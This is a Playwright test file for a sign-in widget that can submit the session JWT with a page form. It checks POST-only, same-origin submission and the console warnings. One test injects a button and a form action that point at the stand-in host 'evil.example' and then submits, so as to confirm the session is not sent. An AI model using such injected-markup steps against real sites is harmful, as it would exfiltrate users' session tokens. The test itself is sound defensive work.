/** The widget in a form of the page. */
import type { Page } from '@playwright/test';
import type { EmulatorClient } from './emulator.ts';
import { expect, type OpenWidget, live as test, type Widget } from './fixtures.ts';
import { askForSms, button, heading, passcode, phoneField, smsCodes } from './steps.ts';

interface Setting {
  readonly openWidget: OpenWidget;
  readonly emulator: EmulatorClient;
}

const form = (attributes: string) => ({
  before: `<form id="order" ${attributes}><input name="item" value="tea">`,
  after:
    '<button>Order</button><button formmethod="get">Preview</button><button type="reset">Clear</button></form>',
});

async function signIn(
  { openWidget, emulator }: Setting,
  attributes: object,
  formAttributes: string,
): Promise<Widget> {
  const widget = await openWidget({ ...smsCodes, ...attributes }, form(formAttributes));
  await passcode(widget).or(phoneField(widget)).waitFor();
  await passcode(widget).fill(await askForSms(widget, emulator));
  await expect(heading(widget, 'Success')).toBeVisible();
  return widget;
}

/** What a script reads of the form. */
const read = (page: Page): Promise<Readonly<Record<string, unknown>>> =>
  page.evaluate(() => {
    const form = document.querySelector<HTMLFormElement>('#order');
    return Object.fromEntries(new FormData(form ?? undefined));
  });

const submits = { 'submit-session': true, name: 'session' } as const;

test('the form of the page submits the JWT of the session', async ({ page, site, openWidget, emulator }) => {
  const bodies: string[] = [];
  site.addRoute('/order', async (request, response) => {
    request.setEncoding('utf8').on('data', (text: string) => bodies.push(text));
    request.on('end', () => response.end('ordered'));
  });
  const widget = await openWidget({ ...smsCodes, ...submits }, form('method="post" action="/order"'));
  expect(await read(page)).toEqual({ item: 'tea' });
  await passcode(widget).fill(await askForSms(widget, emulator));
  await expect(heading(widget, 'Success')).toBeVisible();
  await expect.poll(async () => (await read(page))['session']).toMatch(/^[\w-]+\.[\w-]+\.[\w-]+$/);
  const cookies = await page.context().cookies();
  const jwt = cookies.find(({ name }) => name === 'stytch_session_jwt')?.value;
  await page.getByRole('button', { name: 'Order' }).click();
  await page.waitForURL('**/order');
  expect(new URLSearchParams(bodies.join('')).get('session')).toBe(jwt);
});

test('a form without submit-session gets nothing of the widget', async ({ page, openWidget, emulator }) => {
  await signIn({ openWidget, emulator }, { name: 'session' }, 'method="post"');
  expect(await read(page)).toEqual({ item: 'tea' });
});

test('the session never becomes part of an address', async ({ page, openWidget, emulator, watch }) => {
  watch.expect(/submit-session needs a form with method="post"/);
  const said = page.waitForEvent('console', (message) =>
    message.text().includes('submit-session needs a form'),
  );
  await signIn({ openWidget, emulator }, submits, 'method="get" action="/"');
  await said;
  expect(await read(page)).toEqual({ item: 'tea' });
  await page.getByRole('button', { name: 'Order' }).click();
  await page.waitForURL('**/?item=tea');
});

test('a button that submits a post form by GET leaves the session out, and only that one', async ({
  page,
  openWidget,
  emulator,
  watch,
}) => {
  watch.expect(/submit-session needs a form with method="post"/);
  await signIn({ openWidget, emulator }, submits, 'method="post" action="/"');
  await expect.poll(async () => Object.keys(await read(page))).toEqual(['item', 'session']);
  // The page stays, so that the form can be read again.
  const query = await page.evaluate(() => {
    const order = document.querySelector<HTMLFormElement>('#order');
    const names: string[] = [];
    order?.addEventListener('submit', (event) => {
      names.push(...new FormData(order, event.submitter).keys());
      event.preventDefault();
    });
    order?.querySelector<HTMLElement>('[formmethod]')?.click();
    return names;
  });
  expect(query).toEqual(['item']);
  await expect.poll(async () => Object.keys(await read(page))).toEqual(['item', 'session']);
});

test('the session goes to no other origin, whichever button or field of injected markup asks for it', async ({
  page,
  openWidget,
  emulator,
  watch,
}) => {
  watch.expect(/submit-session needs a form whose action has the origin of the page/);
  await signIn({ openWidget, emulator }, submits, 'method="post" action="/"');
  await expect.poll(async () => Object.keys(await read(page))).toEqual(['item', 'session']);
  const stolen = await page.evaluate(() => {
    const order = document.querySelector<HTMLFormElement>('#order');
    const field = document.createElement('input');
    field.name = 'action';
    const button = document.createElement('button');
    button.setAttribute('formaction', 'https://evil.example/');
    order?.append(field, button);
    const names: string[] = [];
    order?.addEventListener('submit', (event) => {
      names.push(...new FormData(order, event.submitter).keys());
      event.preventDefault();
    });
    button.click();
    order?.setAttribute('action', 'https://evil.example/');
    order?.requestSubmit();
    return names;
  });
  expect(stolen).toEqual(['item', 'action', 'item', 'action']);
});

test('without the attribute, the session leaves the form', async ({ page, openWidget, emulator }) => {
  const widget = await signIn({ openWidget, emulator }, submits, 'method="post"');
  await expect.poll(async () => Object.keys(await read(page))).toEqual(['item', 'session']);
  await widget.element.evaluate((node) => node.removeAttribute('submit-session'));
  await expect.poll(async () => Object.keys(await read(page))).toEqual(['item']);
});

test('a page that forgets the name learns of it', async ({ page, openWidget, watch }) => {
  watch.expect(/submit-session needs the attribute name/);
  const said = page.waitForEvent('console', (message) => message.text().includes('needs the attribute name'));
  await openWidget({ ...smsCodes, 'submit-session': true }, form('method="post"'));
  await said;
});

test('the form can be reset and is valid, and a disabled fieldset does not disable the widget', async ({
  page,
  openWidget,
  emulator,
}) => {
  const widget = await openWidget(smsCodes, {
    before: '<form id="order" method="post"><fieldset disabled>',
    after: '</fieldset><button type="reset">Clear</button></form>',
  });
  await phoneField(widget).fill('2025550162');
  await page.getByRole('button', { name: 'Clear' }).click();
  await expect(phoneField(widget)).toHaveValue('(202) 555-0162');
  expect(await page.evaluate(() => document.querySelector<HTMLFormElement>('#order')?.checkValidity())).toBe(
    true,
  );
  await button(widget, 'Continue').click();
  await expect(passcode(widget)).toBeFocused();
  const { code = '' } = await emulator.inbox('+12025550162');
  await passcode(widget).fill(code);
  await expect(heading(widget, 'Success')).toBeVisible();
});
